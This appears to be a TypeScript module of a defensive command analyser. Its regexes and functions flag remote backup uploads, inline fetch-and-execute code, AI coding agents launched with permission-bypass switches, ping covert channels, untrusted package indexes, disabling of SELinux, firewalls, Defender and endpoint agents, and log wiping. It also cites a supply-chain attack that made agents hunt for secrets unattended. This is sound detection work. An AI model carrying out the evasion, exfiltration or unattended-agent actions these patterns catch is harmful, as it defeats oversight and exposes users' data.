const HOME_OR_DOCUMENTS = /^(?:~|\$\{?HOME\}?|\/home\/[^/]*|\/Users\/[^/]*|%USERPROFILE%)\/?$|^(?:~|\$\{?HOME\}?)\/(?:Documents|Desktop|Pictures|Photos)\/?$/;
/**
 * A backup tool's run that uploads (restic backup, borg create, a duplicity backup): the host of the
 * repository it writes to (its flag, its environment variable, or its argument) and the paths it backs up. Undefined
 * for a local repository or another verb.
 */
export function backupOf(w0: string, args: readonly string[], env: (name: string) => string | undefined): { host: string; sources: string[] } | undefined {
  const words = args.map((a) => a.replace(/^["']|["']$/g, ''));
  const verbs = words.filter((a, i) => !a.startsWith('-') && !/^(?:-r|--repo|--repository|-e|--exclude|--password-file|--exclude-file|--iexclude|--tag|--host)$/.test(words[i - 1] ?? ''));
  const hostOf = (repo: string | undefined): string | undefined => {
    if (!repo) return undefined;
    const r = repo.replace(/^(?:rest|s3|swift|azure|gs|b2|rclone|sftp):/, '');
    const url = /^[a-z][\w+.-]*:\/\/(?:[^@/\s]*@)?([^/:\s]+)/i.exec(r);
    if (url) return url[1];
    const scp = /^(?:[\w.-]+@)?([\w-]+(?:\.[\w-]+)+):/.exec(r);
    return scp?.[1];
  };
  if (w0 === 'restic' && (verbs[0] === 'backup' || verbs[0] === 'copy')) {
    const i = words.findIndex((a) => /^(?:-r|--repo)$/.test(a));
    const flag = i >= 0 ? words[i + 1] : words.find((a) => /^--repo=/.test(a))?.slice(7);
    const host = hostOf(flag ?? env('RESTIC_REPOSITORY'));
    // (`restic copy` puts the snapshots of the user's repository into this one: the user's backed-up files, whole)
    return host ? { host, sources: verbs[0] === 'copy' ? ['~'] : verbs.slice(1) } : undefined;
  }
  if (w0 === 'borg' && verbs[0] === 'create') {
    // (the archive is the word with `::`, the paths after it; a flag's value before it is no path)
    const at = verbs.findIndex((v) => v.includes('::'));
    const target = verbs[at] ?? '';
    const repo = target.startsWith('::') ? env('BORG_REPO') : target.replace(/::.*$/, '');
    const host = at > 0 ? hostOf(repo) : undefined;
    return host ? { host, sources: verbs.slice(at + 1) } : undefined;
  }
  if (w0 === 'duplicity' && verbs.length >= 2 && !/^(?:restore|verify|list-current-files|collection-status|remove-older-than|cleanup)$/.test(verbs[0])) {
    const rest = /^(?:full|incremental|incr|backup)$/.test(verbs[0]) ? verbs.slice(1) : verbs;
    const host = hostOf(rest[rest.length - 1]);
    return host ? { host, sources: rest.slice(0, -1) } : undefined;
  }
  return undefined;
}

/** An inline program's network read, and what runs what it read (eval, Function, a child process, a shell). */
const INLINE_GETS = /\bhttps?(?:['"]\))?\.(?:get|request)\b|\bfetch\s*\(|\burlopen\b|\burllib\b|\brequests\.get\b|Net::HTTP|\bURI\.open\b|\bopen-uri\b|\bLWP\b|\bfile_get_contents\b/;
const INLINE_RUNS = /\beval\s*\(|\bFunction\s*\(|\bexec(?:Sync)?\s*\(|\bspawn(?:Sync)?\s*\(|\brunInThisContext\b|\bos\.system\b|\bsubprocess\b|\bsystem\s*\(|\|\s*(?:ba)?sh\b/;

/**
 * An AI coding agent's command line (`claude -p "…" --dangerously-skip-permissions`, `codex exec --full-auto "…"`,
 * `gemini --yolo --prompt "…"`): whether its switches run every tool call unasked, and the prompt it is handed (its
 * longest argument of three words or more: the prompt flags differ from one agent to the next). One reading for the
 * shell lowering and the translators' command lines (lang/command.ts).
 */
export function agentCliOf(program: string, args: readonly string[]): { unattended: boolean; prompt?: string } | undefined {
  const name = program.replace(/^.*[\\/]/, '').replace(/\.exe$/i, '').toLowerCase();
  if (!AGENT_CLI.test(name)) return undefined;
  const words = args.map((a) => a.replace(/^["']|["']$/g, ''));
  const prompt = words.filter((a) => !a.startsWith('-') && a.trim().split(/\s+/).length >= 3).sort((x, y) => y.length - x.length)[0];
  return { unattended: AGENT_UNATTENDED.test(` ${words.join(' ')} `), ...(prompt ? { prompt } : {}) };
}

/** AI coding agents' command-line programs (Claude Code, Gemini CLI, Codex, Amazon Q, Cursor, Copilot, Aider, Amp, …). */
const AGENT_CLI = /^(?:claude|gemini|codex|q|cursor-agent|copilot|aider|amp|opencode|goose|qwen|crush|kiro-cli)$/;
/**
 * Their switches that run every tool call unasked (`--dangerously-skip-permissions`, `--yolo`, `--trust-all-tools`,
 * `--permission-mode bypassPermissions`, `--ask-for-approval never`): what the model decides, runs. The s1ngularity
 * compromise of nx (August 2025) had its install script start the user's own agents this way to hunt for secrets.
 */
const AGENT_UNATTENDED = /\s(?:--dangerously-[\w-]+|--yolo|--trust-all-tools|--allow-all-tools|--yes-always|--full-auto|--permission-mode[=\s]+bypassPermissions|--approval-mode[=\s]+yolo|(?:--ask-for-approval|-a)[=\s]+never)(?=\s)/;

/**
 * `ping -p <pattern> … host`: up to 16 bytes of an echo request's padding are the caller's (a covert channel when
 * the pattern is computed). The pattern and the target as written; for the shell lowering and command lines scripts run.
 */
export function pingPattern(args: readonly string[]): { pattern: string; target?: string } | undefined {
  const i = args.findIndex((a) => a === '-p' || /^-p[0-9a-f$`]/i.test(a));
  if (i < 0) return undefined;
  const pattern = args[i] === '-p' ? args[i + 1] : args[i].slice(2);
  if (!pattern) return undefined;
  return { pattern, target: args.filter((a, j) => !a.startsWith('-') && j !== i + 1 && !/^\d+$/.test(a)).pop() };
}

/** An interpreter's command line that names a script file to run (`python3 /tmp/ld.py`, `pwsh -File x.ps1`). */
function runsScriptFile(args: readonly string[]): boolean {
  return args.some((a) => !/^-/.test(a) && !/:\/\//.test(a) && /\.(?:py|pyw|js|mjs|cjs|ts|ps1)["']?$/i.test(a));
}

/** Hosts no package index is served from: an install from one runs whatever that host serves. */
const UNTRUSTED_INDEX_HOST: ReadonlySet<string> = new Set(['raw-ip', 'paste', 'tunnel', 'webhook', 'shortener', 'free-hosting']);
/** The index or registry URL an install command names (`--registry=URL`, `--index-url URL`, `-i URL`, `--source URL`). */
function indexUrlOf(args: readonly string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const m = /^(?:--registry|--index-url|--extra-index-url|--index|--default-index|--find-links|--source|-i|-f)(?:=(.+))?$/.exec(args[i]);
    if (!m) continue;
    const v = (m[1] ?? args[i + 1] ?? '').replace(/^["']|["']$/g, '');
    if (/^https?:\/\//i.test(v)) return v;
  }
  return undefined;
}

/**
 * A command that switches off a machine's own defences: the audit subsystem's rules or the subsystem itself
 * (`auditctl -D`, `-e 0`), SELinux (`setenforce 0`), the firewall (`ufw disable`), Gatekeeper
 * (`spctl --master-disable`), Microsoft Defender's protections and exclusions (`Set-MpPreference -Disable…`,
 * `Add-MpPreference -ExclusionPath`), or an endpoint-security service stopped, disabled or masked by name.
 */
function guardOff(w0: string, args: string[]): boolean {
  const a = args.join(' ');
  const prog = w0.toLowerCase().replace(/\.exe$/, '');
  if (prog === 'auditctl') return /(?:^|\s)-D\b|(?:^|\s)-e\s*0\b/.test(a);
  if (prog === 'setenforce') return /^\s*(?:0|permissive)\b/i.test(a);
  if (prog === 'ufw') return /^\s*disable\b/.test(a);
  if (prog === 'spctl') return /--master-disable|--global-disable/.test(a);
  if (prog === 'set-mppreference') return /(?:^|\s)-Disable\w+/i.test(a) && !/(?:^|\s)-Disable\w+\s+(?:\$false|0|false)\b/i.test(a);
  if (prog === 'add-mppreference') return broadDefenderExclusion(a);
  if (/^(?:systemctl|service|launchctl|sc|stop-service|set-service|net)$/.test(prog)) return /\b(?:stop|disable|mask|kill|bootout|unload|config|-StartupType)\b/i.test(a) && SECURITY_SERVICE.test(a);
  if (/^(?:pkill|killall|taskkill|stop-process)$/.test(prog)) return SECURITY_SERVICE.test(a);
  return false;
}
/** Endpoint-security and audit services by their usual unit, service and process names. */
const SECURITY_SERVICE = /\b(?:auditd|falcon-sensor|falcond|csagent|osqueryd|wazuh-agent|ossec|sentinel(?:one|agent|d)|cbagentd|cbdaemon|carbonblack|crowdstrike|cylance\w*|sophos\w*|mdatp|wdavdaemon|elastic-(?:agent|endpoint)|filebeat|auditbeat|tanium\w*|qualys\w*|velociraptor|clamav-daemon|clamd|WinDefend|Sense|WdNisSvc|SecurityHealthService|MsMpEng|MsSense)\b/i;
/** Wiping the machine's logs: Windows event logs, the systemd journal, macOS's unified log. */
const TRACES_OFF = /^(?:wevtutil(?:\.exe)?\s+(?:cl|clear-log)\b|clear-eventlog\b|journalctl\s+.*--vacuum-(?:time|size|files)\b|log\s+erase\b)/i;
